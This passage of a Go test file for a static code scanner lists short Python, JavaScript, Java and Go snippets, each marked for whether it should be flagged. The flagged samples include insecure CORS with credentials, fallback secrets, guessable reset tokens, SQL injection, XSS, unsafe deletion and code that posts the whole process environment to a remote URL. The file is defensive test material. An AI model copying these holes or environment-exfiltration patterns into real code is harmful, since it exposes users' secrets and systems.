		{"Object f(HttpServletRequest request) { return factory.createValueExpression(ctx, request.getParameter(\"e\"), Object.class).getValue(ctx); }", true},
		{"Object f() { return factory.createValueExpression(ctx, \"#{user.name}\", Object.class).getValue(ctx); }", false},
	})
}

// TestSessions are pages that may ask with cookies, whoever they are, secrets that everybody knows, and tokens that can be guessed.
func TestSessions(t *testing.T) {
	judgeKinds(t, "javascript", []kindRow{
		{"import cors from 'cors'\napp.use(cors({ origin: (origin, done) => done(null, origin), credentials: true }))", true},
		{"import cors from 'cors'\napp.use(cors({ origin: true, credentials: true }))", true},
		{"app.enableCors({ origin: (o, cb) => { cb(null, true) }, credentials: true })", true},
		{"app.use(session({ secret: process.env.SESSION_SECRET || 'changeme' }))", true},
		{"import jwt from 'jsonwebtoken'\nconst KEY = process.env.JWT_KEY ?? 'dev-secret'\nexport const issue = (u) => jwt.sign({ sub: u.id }, KEY)", true},
		{"import cors from 'cors'\napp.use(cors({ origin: ['https://app.example.com'], credentials: true }))", false},
		{"import cors from 'cors'\napp.use(cors({ origin: true }))", false},
		{"import cors from 'cors'\napp.use(cors({ origin: (o, done) => done(ALLOWED.has(o) ? null : new Error('no'), o), credentials: true }))", false},
		{"app.use(session({ secret: process.env.SESSION_SECRET }))", false},
		{"const port = process.env.PORT || '3000'", false},
	})
	judgeKinds(t, "python", []kindRow{
		{"app.add_middleware(CORSMiddleware, allow_origins=['*'], allow_credentials=True)", true},
		{"import os\napp.config['SECRET_KEY'] = os.environ.get('SECRET_KEY', 'changeme')", true},
		{"import os\napp.secret_key = os.getenv('SECRET_KEY') or 'dev-secret'", true},
		{"import random, time\ndef code(n=20):\n    rng = random.Random(int(time.time()))\n    return ''.join(rng.choice('abc') for _ in range(n))\ndef reset(u):\n    Reset.create(user=u, token=code())", true},
		{"app.add_middleware(CORSMiddleware, allow_origins=['*'])", false},
		{"app.add_middleware(CORSMiddleware, allow_origins=['https://app.example.com'], allow_credentials=True)", false},
		{"import os\napp.config['SECRET_KEY'] = os.environ['SECRET_KEY']", false},
		{"import os\nLEVEL = os.environ.get('LEVEL', 'info')", false},
		{"import random\ndef sample(rows, seed):\n    return random.Random(seed).sample(rows, 5)", false},
	})
	judgeKinds(t, "java", []kindRow{
		{"void cors(CorsRegistry r) { r.addMapping(\"/**\").allowedOriginPatterns(\"*\").allowCredentials(true); }", true},
		{"void cors(CorsRegistry r) { r.addMapping(\"/**\").allowedOrigins(\"https://app.example.com\").allowCredentials(true); }", false},
	})
}

// TestRemoved are folders that are removed with all in them: those that were made here, or have a name of the source, are a program's own.
func TestRemoved(t *testing.T) {
	judgeKinds(t, "python", []kindRow{
		{"import shutil\nfrom pathlib import Path\ndef wipe(root: Path):\n    shutil.rmtree(root)", true},
		{"import shutil\nfrom pathlib import Path\nROOT = Path(__file__).resolve().parent\ndef clean():\n    for name in ('build', '..'):\n        shutil.rmtree(ROOT / name)", true},
		{"import shutil\nfrom pathlib import Path\nROOT = Path(__file__).resolve().parent\ndef clean(names):\n    for name in names:\n        shutil.rmtree(ROOT / name)", true},
		{"import shutil\nfrom pathlib import Path\nROOT = Path(__file__).resolve().parent\nLEFT = ('build', '.pytest_cache')\ndef clean():\n    for name in LEFT:\n        path = ROOT / name\n        shutil.rmtree(path)", false},
		{"import shutil\nfrom pathlib import Path\nROOT = Path(__file__).resolve().parent\ndef clean():\n    shutil.rmtree(ROOT / 'build')", false},
		{"import shutil, tempfile\nfrom pathlib import Path\nclass A:\n    def setUp(self):\n        self.folder = Path(tempfile.mkdtemp(prefix='a-'))\n        self.addCleanup(shutil.rmtree, self.folder, ignore_errors=True)", false},
		{"import shutil\nfrom pathlib import Path\nclass A:\n    def setUp(self):\n        self.folder = Path(read())\n        self.addCleanup(shutil.rmtree, self.folder, ignore_errors=True)", true},
	})
}

// TestScriptsFolder holds that a script of the shell is judged from where it stands.
func TestScriptsFolder(t *testing.T) {
	const clean = "#!/bin/bash\nset -eu\nroot=$(cd \"$(dirname \"${BASH_SOURCE[0]}\")/..\" && pwd)\nrm -rf \"${root:?}/build\"\n"
	for path, stopped := range map[string]bool{"scripts/clean.sh": false, "tools/ci/clean.sh": false, "clean.sh": true} {
		found, err := code.Find(t.Context(), path, []byte(clean))
		if err != nil {
			t.Fatal(err)
		}
		if got := slices.ContainsFunc(found, func(c code.Capability) bool { return c.Grade >= code.Review }); got != stopped {
			t.Errorf("%s: %v, want stopped %v", path, found, stopped)
		}
	}
}

// TestBesideReviews is what programs do as a matter of course where reviews look twice.
func TestBesideReviews(t *testing.T) {
	judgeKinds(t, "javascript", []kindRow{
		{"import cors from \"cors\"\napp.use(cors({ origin: (origin, cb) => allowed(origin) ? cb(null, true) : cb(new Error(\"x\")), credentials: true }));", false},
		{"const merge = (a, b) => Object.assign({}, a, b);", false},
		{"export const save = async (req, res) => { const data = schema.parse(req.body); const u = await User.findOne({ id: 1 }); Object.assign(u, data); log.info(\"saved\", { id: u.id }); res.json(u); };", false},
		{"const cmp = (a, b) => a.digest(\"hex\") === b.digest(\"hex\");", false},
		{"const etag = crypto.createHash(\"sha1\").update(body).digest(\"hex\"); if (req.headers[\"if-none-match\"] === etag) res.sendStatus(304);", false},
		{"passwordInput.addEventListener(\"input\", (e) => { meter.value = score(e.target.value); });", false},
		{"const origWarn = console.warn; console.warn = (m) => { if (!/x/.test(m)) origWarn(m); };", false},
		{"window.onerror = function (m) { navigator.sendBeacon(\"https://errors.example.com\", m); };", false},
		{"if (process.env.NODE_ENV === \"production-1\") next();", false},
		{"const { spawn } = require(\"child_process\")\nconst args = [\"-i\", req.file.path, \"-vf\", `scale=${Number(req.query.w)}`]; spawn(\"ffmpeg\", args);", false},
		{"res.json({ env: process.env.NODE_ENV, v: process.env.npm_package_version });", false},
		{"const { spawn } = require(\"child_process\")\nconst child = spawn(\"node\", [\"x.js\"], { env: { ...process.env, A: \"1\" } });", false},
		{"jwt.sign({ sub: 1 }, process.env.JWT_SECRET);", false},
	})
	judgeKinds(t, "python", []kindRow{
		{"import hashlib, logging, os\ndef etag_matches(request, body):\n    return request.headers.get(\"If-None-Match\") == hashlib.md5(body).hexdigest()", false},
		{"import hashlib, logging, os\ndef rate_limited(request):\n    return cache.get(request.META.get(\"HTTP_X_FORWARDED_FOR\")) == \"1\"", false},
		{"import hashlib, logging, os\ndef get_client_ip(request):\n    xff = request.META.get(\"HTTP_X_FORWARDED_FOR\")\n    return xff.split(\",\")[0] if xff else request.META[\"REMOTE_ADDR\"]", false},
		{"import hashlib, logging, os\nclass Form:\n    def __init__(self, **kw):\n        for k, v in kw.items():\n            setattr(self, k, v)", false},
		{"import hashlib, logging, os\ndef update(instance, validated_data):\n    for attr, value in validated_data.items():\n        setattr(instance, attr, value)", false},
		{"import hashlib, logging, os\ndef view(request):\n    form = F(request.POST)\n    if form.is_valid():\n        for k, v in form.cleaned_data.items():\n            setattr(request.user, k, v)\n    logging.info(\"user %s from %s\", request.user, request.headers.get(\"User-Agent\"))\n    if request.GET.get(\"format\") == \"json-api\":\n        return JsonResponse({\"debug\": os.environ.get(\"DEBUG\")})\n    if request.headers.get(\"Sec-Fetch-Mode\") == \"no-cors\":\n        return True", false},
		{"import hashlib, logging, os\ndef is_admin(user):\n    return user.role == \"super-admin-1\"\n", false},
	})
}

// TestReviewedMore is what a seventh set showed, and what is ordinary beside it.
func TestReviewedMore(t *testing.T) {
	judgeKinds(t, "python", []kindRow{
		{"import zmq\ndef step(socket):\n    return socket.recv_pyobj()", true},
		{"import zmq\ndef step(socket):\n    return socket.recv_json()", false},
		{"import hashlib\ndef digest(text):\n    return hashlib.md5(text.encode()).hexdigest()\ndef check(account, password):\n    return account.hash == digest(password)", true},
		{"import hashlib\ndef digest(text):\n    return hashlib.md5(text.encode()).hexdigest()\ndef key(page):\n    return digest(page.url)", false},
		{"import logging\nlog = logging.getLogger(__name__)\ndef sign_in(user, password):\n    log.info('sign in of %s with %s', user, password)", true},
		{"import logging\nlog = logging.getLogger(__name__)\ndef sign_in(user, password):\n    log.info('the password of %s has %d letters', user, len(password))", false},
		{"def search(cur, column):\n    if column not in ('name', 'price'):\n        raise ValueError(column)\n    cur.execute(f'SELECT * FROM articles ORDER BY {column}')", false},
		{"def search(cur, column):\n    if column not in ('name', 'price'):\n        print(column)\n    cur.execute(f'SELECT * FROM articles ORDER BY {column}')", true},
	})
	judgeKinds(t, "javascript", []kindRow{
		{"app.use((req, res, next) => { res.setHeader('Access-Control-Allow-Origin', req.headers.origin || '*'); res.setHeader('Access-Control-Allow-Credentials', 'true'); next(); });", true},
		{"app.use((req, res, next) => { if (ALLOWED.has(req.headers.origin)) { res.setHeader('Access-Control-Allow-Origin', req.headers.origin); res.setHeader('Access-Control-Allow-Credentials', 'true'); } next(); });", false},
		{"app.use((req, res, next) => { res.setHeader('Access-Control-Allow-Origin', 'https://shop.example.com'); res.setHeader('Access-Control-Allow-Credentials', 'true'); next(); });", false},
		{"app.post('/r', (req, res) => { const { password, email } = req.body; console.log('new', email, password); res.end(); });", true},
		{"const COLUMNS = new Set(['name', 'price']);\nexports.search = (pool, sort) => { if (!COLUMNS.has(sort)) { throw new RangeError(sort); } return pool.query(`SELECT * FROM a ORDER BY ${sort}`); };", false},
		{"const COLUMNS = new Set(['name', 'price']);\nexports.search = (pool, sort) => { if (!COLUMNS.has(sort)) { console.log(sort); } return pool.query(`SELECT * FROM a ORDER BY ${sort}`); };", true},
		{"import { rm } from 'node:fs/promises';\nimport { fileURLToPath } from 'node:url';\nconst dist = fileURLToPath(new URL('../dist/', import.meta.url));\nawait rm(dist, { recursive: true });", false},
		{"import { rm } from 'node:fs/promises';\nimport { fileURLToPath } from 'node:url';\nconst up = fileURLToPath(new URL('../../', import.meta.url));\nawait rm(up, { recursive: true });", true},
	})
	judgeKinds(t, "go", []kindRow{
		{"import (\"fmt\"; \"math/rand\"; \"time\")\nvar source = rand.New(rand.NewSource(time.Now().Unix()))\nfunc newToken() string { return fmt.Sprintf(\"%016x\", source.Int63()) }", true},
		{"import \"math/rand\"\nvar source = rand.New(rand.NewSource(1))\nfunc roll() int64 { return source.Int63() % 6 }", false},
	})
	judgeKinds(t, "java", []kindRow{
		{"void doGet(HttpServletRequest req, HttpServletResponse res) throws Exception { heading(res.getWriter(), req.getParameter(\"q\")); }\nvoid heading(java.io.PrintWriter out, String q) { out.printf(\"<h1>%s</h1>\", q); }", true},
		{"void doGet(HttpServletRequest req, HttpServletResponse res) throws Exception { heading(res.getWriter(), Encode.forHtml(req.getParameter(\"q\"))); }\nvoid heading(java.io.PrintWriter out, String q) { out.printf(\"<h1>%s</h1>\", q); }", false},
	})
}

// TestEnvironmentAway is all of the environment that another machine is given, through functions too, and one variable of it.
func TestEnvironmentAway(t *testing.T) {
	judgeKinds(t, "python", []kindRow{
		{"import os, requests\ndef all():\n    return dict(os.environ)\ndef send(d):\n    requests.post(U, json=d)\nsend(all())", true},
		{"import os, requests\ndef all():\n    return {'v': os.environ['VERSION']}\ndef send(d):\n    requests.post(U, json=d)\nsend(all())", false},
		{"import os, requests\ns = requests.Session()\ndef f():\n    return str(os.environ)\ns.post(U, data=f().encode())", true},
		{"import os, requests\ndef env():\n    return dict(os.environ)\ndef send(d):\n    requests.post(U, json=d)\nsubprocess.run(['make'], env=env())\nsend({'a': 1})", false},
	})
	judgeKinds(t, "javascript", []kindRow{
		{"const all = () => ({ ...process.env })\nconst send = (d) => fetch(U, { method: 'POST', body: JSON.stringify(d) })\nsend(all())", true},
		{"const one = () => ({ v: process.env.VERSION })\nconst send = (d) => fetch(U, { method: 'POST', body: JSON.stringify(d) })\nsend(one())", false},
		{"async function f() { const { API } = process.env; return fetch(API) }", false},
		{"async function f() { const { API, ...rest } = process.env; return fetch(API, { method: 'POST', body: JSON.stringify(rest) }) }", true},
	})
	judgeKinds(t, "go", []kindRow{
		{"import (\"net/http\"; \"os\"; \"strings\")\nfunc f(u, t string) { (&http.Client{}).Post(u, t, strings.NewReader(strings.Join(os.Environ(), \"\\n\"))) }", true},
		{"import (\"net/http\"; \"os\"; \"strings\")\nfunc f(u, t string) { (&http.Client{}).Post(u, t, strings.NewReader(os.Getenv(\"VERSION\"))) }", false},
		{"import (\"net/http\"; \"os\"; \"strings\")\nfunc f(c *http.Client, u, t string) { c.Post(u, t, strings.NewReader(strings.Join(os.Environ(), \"\\n\"))) }", true},
		{"import (\"os\"; \"strings\")\nfunc f(c *store, u, t string) { c.Post(u, t, strings.NewReader(strings.Join(os.Environ(), \"\\n\"))) }", false},
	})
	judgeKinds(t, "java", []kindRow{
		{"void f() { HttpRequest r = HttpRequest.newBuilder(URI.create(System.getenv(\"URL\"))).build(); }", false},
		{"void f() { HttpRequest r = HttpRequest.newBuilder(URI.create(System.getenv().get(\"URL\"))).build(); }", false},
		{"void f(URI u) { HttpRequest r = HttpRequest.newBuilder(u).POST(BodyPublishers.ofString(System.getenv().toString())).build(); }", true},
	})
}
